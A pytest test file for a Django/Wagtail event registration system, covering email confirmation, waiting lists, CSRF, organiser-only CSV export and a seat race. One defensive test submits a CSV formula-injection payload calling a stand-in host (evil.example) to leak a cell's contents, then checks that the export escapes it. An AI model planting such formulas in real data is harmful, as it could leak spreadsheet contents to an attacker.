"""Registration on an event's page, and the CSV export of registrations for organisers."""

import contextlib
import csv
import datetime
import io
import re
import threading
from urllib.parse import quote

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.core import mail
from django.db import connection
from django.db import connections as db_connections
from django.test import Client
from django.utils import timezone
from wagtail.models import GroupPagePermission

from events.models import EventPage, Registration, RegistrationStatus
from tests.factories import SchoolFactory

NOW = datetime.datetime(2026, 11, 23, 12, 0, tzinfo=datetime.UTC)
URL = "/kalendar/seminar/"


@pytest.fixture(autouse=True)
def _frozen_now(monkeypatch):
    monkeypatch.setattr(timezone, "now", lambda: NOW)


@pytest.fixture
def event(make_event):
    return make_event(
        "Семинар",
        "2026-12-09 10:00",
        slug="seminar",
        registration_mode="form",
        capacity=2,
        registration_deadline=NOW + datetime.timedelta(days=7),
        place="Институт, конференц-зал",
    )


def data(**changes):
    values = {
        "name": "Иванова Мария Петровна",
        "email": "Teacher@School.example",
        "organisation": "МОУ СОШ № 5",
        "role": "учитель математики",
        "consent": "on",
    }
    values.update(changes)
    return values


def row(**changes):
    """A registration's fields as the form saves them: consent is a time, not the checkbox."""
    values = data(**changes)
    del values["consent"]
    return {**values, "consent_at": timezone.now()}


def confirm_link(message):
    return re.search(r"https?://\S+/confirm/\S+/", message.body).group(0)


def test_registration_holds_a_seat_only_after_the_link_in_the_email(client, event):
    response = client.post(URL, data())
    assert response.status_code == 302
    assert response["Location"] == URL + "?registered=1#registration"
    registration = Registration.objects.get()
    assert registration.email == "teacher@school.example"
    assert registration.status == RegistrationStatus.PENDING
    assert registration.consent_at == NOW
    [message] = mail.outbox
    assert message.to == ["teacher@school.example"]
    assert message.subject == "Подтвердите регистрацию: Семинар"
    assert "9 декабря 2026, 10:00–12:00 МСК" in message.body
    # The first line is the site's, not the visitor's name.
    assert message.body.startswith("Чтобы подтвердить регистрацию на мероприятие «Семинар»")
    page = client.get(response["Location"])
    assert "Заявка принята. Проверьте почту" in page.text
    assert "в течение 48 часов" in page.text
    assert "Свободных мест: 2 из 2" in page.text

    confirmed = client.get(confirm_link(message))
    assert confirmed.status_code == 302
    own_page = client.get(confirmed["Location"])
    assert "Регистрация подтверждена: место за вами." in own_page.text
    assert "no-store" in own_page["Cache-Control"]
    assert Registration.objects.get().status == RegistrationStatus.CONFIRMED
    assert mail.outbox[1].body.startswith("Регистрация подтверждена")
    assert "Свободных мест: 1 из 2" in client.get(URL).text
    # The link followed again changes nothing and sends nothing.
    client.get(confirm_link(message))
    assert len(mail.outbox) == 2


def test_an_expired_link_holds_no_seat(client, event, monkeypatch, settings):
    client.post(URL, data())
    later = NOW + datetime.timedelta(hours=settings.REGISTRATION_CONFIRM_HOURS, minutes=1)
    monkeypatch.setattr(timezone, "now", lambda: later)
    response = client.get(confirm_link(mail.outbox[0]))
    assert "Срок ссылки истёк" in response.text
    assert Registration.objects.get().status == RegistrationStatus.PENDING
    # The same address may register again: the expired request is dropped.
    assert client.post(URL, data()).status_code == 302
    assert Registration.objects.count() == 1


def test_school_from_the_registry(client, event):
    school = SchoolFactory()
    client.post(URL, data(organisation="", school=school.pk))
    assert Registration.objects.get().organisation_name == school.short_name


def test_duplicate_email_is_refused_and_the_form_keeps_what_was_typed(client, event):
    client.post(URL, data())
    response = client.post(URL, data(email="teacher@school.example", name="Другая Анна"))
    assert response.status_code == 200
    assert "уже отправлено письмо" in response.text
    soup = BeautifulSoup(response.content, "html.parser")
    assert soup.select_one("#id_name")["value"] == "Другая Анна"
    assert soup.select_one("#id_role")["value"] == "учитель математики"
    assert Registration.objects.count() == 1


def test_school_or_organisation_is_required(client, event):
    response = client.post(URL, data(organisation=""))
    assert "Выберите школу из реестра или укажите организацию." in response.text
    assert not Registration.objects.exists()


def register_and_confirm(client, email):
    client.post(URL, data(email=email))
    return client.get(confirm_link(mail.outbox[-1]))["Location"]


def test_a_full_event_takes_a_waiting_list_and_a_cancellation_promotes_the_first(client, event):
    first = register_and_confirm(client, "a@example.org")
    register_and_confirm(client, "b@example.org")
    page = client.get(URL).text
    assert "Свободных мест: 0 из 2. Можно записаться в лист ожидания" in page
    assert "Записаться в лист ожидания" in page
    waiting = register_and_confirm(client, "c@example.org")
    register_and_confirm(client, "d@example.org")
    assert "вы в листе ожидания" in client.get(waiting).text
    assert mail.outbox[-1].body.startswith("Все места уже заняты: вы в листе ожидания.")
    # The confirmation's link to cancel: its page asks first (a mail scanner's GET cancels
    # nothing), then a POST cancels.
    assert "Отменить регистрацию" in client.get(first).text
    assert Registration.objects.get(email="a@example.org").status == RegistrationStatus.CONFIRMED
    client.post(first, {"action": "cancel"})

    statuses = dict(Registration.objects.values_list("email", "status"))
    assert statuses == {
        "a@example.org": "cancelled",
        "b@example.org": "confirmed",
        "c@example.org": "confirmed",
        "d@example.org": "waiting",
    }
    promotion = mail.outbox[-1]
    assert promotion.to == ["c@example.org"]
    assert promotion.subject == "Освободилось место: Семинар"
    assert "Регистрация отменена." in client.get(first).text
    # A cancelled visitor may register again.
    assert client.post(URL, data(email="a@example.org")).status_code == 302


def test_more_places_promote_the_waiting_list_in_order(
    client, event, django_capture_on_commit_callbacks
):
    for email in ["a@example.org", "b@example.org", "c@example.org", "d@example.org"]:
        register_and_confirm(client, email)
    register_and_confirm(client, "e@example.org")
    mail.outbox.clear()
    event.capacity = 4
    with django_capture_on_commit_callbacks(execute=True):
        event.save_revision().publish()
    statuses = dict(Registration.objects.values_list("email", "status"))
    assert [email for email, status in sorted(statuses.items()) if status == "waiting"] == [
        "e@example.org"
    ]
    assert sorted(message.to[0] for message in mail.outbox) == ["c@example.org", "d@example.org"]
    assert {message.subject for message in mail.outbox} == {"Освободилось место: Семинар"}
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        event.save_revision().publish()  # publishing again promotes no one twice
    assert mail.outbox == []
    assert "Свободных мест: 0 из 4" in client.get(URL).text


def test_deadline_closes_the_form(client, event):
    event.registration_deadline = NOW - datetime.timedelta(minutes=1)
    event.save()
    response = client.post(URL, data())
    assert "срок истёк" in response.text
    assert not Registration.objects.exists()


def test_csrf_is_checked_and_works_with_the_token_from_the_page(event):
    client = Client(enforce_csrf_checks=True)
    assert client.post(URL, data()).status_code == 403
    soup = BeautifulSoup(client.get(URL).content, "html.parser")
    token = soup.select_one("input[name=csrfmiddlewaretoken]")["value"]
    response = client.post(URL, data(csrfmiddlewaretoken=token))
    assert response.status_code == 302
    assert Registration.objects.count() == 1


def test_registration_page_is_not_cached_but_the_count_is_fresh(client, event):
    assert "Свободных мест: 2 из 2" in client.get(URL).text
    Registration.objects.create(
        event=event, name="А", email="a@example.org", role="учитель", status="confirmed"
    )
    assert "Свободных мест: 1 из 2" in Client().get(URL).text


def _editor(username, calendar=None):
    user = get_user_model().objects.create_user(username, password="pw")
    group = Group.objects.create(name=f"Редакторы {username}")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    if calendar is not None:
        GroupPagePermission.objects.create(group=group, page=calendar, permission_type="change")
    user.groups.add(group)
    return user


def test_csv_export_for_editors_of_the_calendar_only(client, event, calendar):
    Registration.objects.create(
        event=event,
        name="Иванова М. П.",
        email="m@example.org",
        organisation="МОУ СОШ № 5",
        role="учитель",
    )
    url = f"/admin/events/{event.pk}/registrations.csv"
    client.force_login(_editor("outsider"))
    refused = client.get(url)  # Wagtail's admin turns PermissionDenied into a redirect home
    assert (refused.status_code, refused["Location"]) == (302, "/admin/")
    client.force_login(_editor("organiser", calendar))
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8-sig").splitlines()
    assert text[0].startswith("Дата регистрации;ФИО")
    assert "Иванова М. П.;m@example.org;МОУ СОШ № 5;учитель" in text[1]
    client.logout()
    assert client.get(url)["Location"].startswith("/admin/login/")


def test_editors_see_the_registrations_by_status_and_the_queue_in_order(
    client, event, calendar, django_assert_max_num_queries
):
    for email in ["a@example.org", "b@example.org", "c@example.org", "d@example.org"]:
        register_and_confirm(client, email)
    client.post(URL, data(email="e@example.org"))  # not confirmed yet
    url = f"/admin/events/{event.pk}/registrations/"
    client.force_login(_editor("outsider"))
    assert client.get(url).status_code == 403
    client.force_login(_editor("organiser", calendar))
    assert f'href="{url}"' in client.get(f"/admin/pages/{event.pk}/edit/").text
    with django_assert_max_num_queries(20):
        response = client.get(url)
    page = BeautifulSoup(response.content, "html.parser")
    headings = [" ".join(h.get_text().split()) for h in page.select("main section h2")]
    assert headings == [
        "Подтверждена: 2",
        "В листе ожидания: 2",
        "Ожидает подтверждения: 1",
    ]
    queue = page.select("main section")[1].select("tbody tr")
    assert [row.select_one("td").get_text() for row in queue] == ["1", "2"]
    assert [row.select("td")[3].get_text() for row in queue] == ["c@example.org", "d@example.org"]
    assert "Мест: 2, свободно: 0." in " ".join(page.get_text().split())


def test_csv_export_never_runs_what_a_visitor_typed_as_a_formula(client, event, calendar):
    # A visitor's form, as an attacker fills it: each cell would be a formula in Excel.
    typed = data(
        name='=HYPERLINK("https://evil.example/?"&A1,"Иванова")',
        organisation="+7 (812) 123-45-67",
        role="-5",
    )
    assert client.post(URL, typed).status_code == 302
    client.force_login(_editor("organiser", calendar))

    response = client.get(f"/admin/events/{event.pk}/registrations.csv")

    text = response.content.decode("utf-8-sig")
    header, row = csv.reader(io.StringIO(text), delimiter=";")
    assert header[1] == "ФИО"
    assert row[1:5] == [
        """'=HYPERLINK("https://evil.example/?"&A1,"Иванова")""",
        "teacher@school.example",
        "'+7 (812) 123-45-67",
        "'-5",
    ]


def test_csv_export_keeps_a_cyrillic_slug_in_the_file_name(client, make_event, calendar):
    event = make_event("Семинар", "2026-12-09 10:00", slug="семинар", registration_mode="form")
    client.force_login(_editor("organiser", calendar))

    response = client.get(f"/admin/events/{event.pk}/registrations.csv")

    # RFC 6266's filename*: a browser saves «registrations-семинар.csv», not MIME gibberish.
    assert response["Content-Disposition"] == (
        f"attachment; filename*=utf-8''{quote('registrations-семинар.csv')}"
    )


# serialized_rollback: the flush after a transactional test would take the migrations' rows
# (groups, the root page, the taxonomies) from the tests that run after it, the demo's among them.
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
@pytest.mark.skipif(
    connection.vendor != "postgresql",
    reason="SQLite lets one writer in at a time (IMMEDIATE transactions): no race to lose there",
)
def test_two_visitors_after_the_last_place_get_one_seat(event, monkeypatch):
    Registration.objects.create(
        event=event, status="confirmed", **row(email="first@school.example")
    )
    pending = [
        Registration.objects.create(event=event, **row(email=f"{n}@school.example")) for n in (2, 3)
    ]
    # Both visitors count the seats; neither saves before the other has counted, unless the
    # first one's count makes the second wait.
    both_counted = threading.Barrier(2, timeout=2)
    is_full = EventPage.is_full

    def is_full_then_wait(page, taken):
        full = is_full(page, taken)
        # A broken barrier means the other visitor is waiting for the lock, as it should.
        with contextlib.suppress(threading.BrokenBarrierError):
            both_counted.wait()
        return full

    monkeypatch.setattr(EventPage, "is_full", is_full_then_wait)

    def visit(registration):
        try:
            Client().get(f"{URL}confirm/{registration.token}/")
        finally:
            db_connections.close_all()

    visitors = [threading.Thread(target=visit, args=(registration,)) for registration in pending]
    for visitor in visitors:
        visitor.start()
    for visitor in visitors:
        visitor.join()

    statuses = sorted(
        Registration.objects.exclude(email="first@school.example").values_list("status", flat=True)
    )
    assert statuses == ["confirmed", "waiting"]
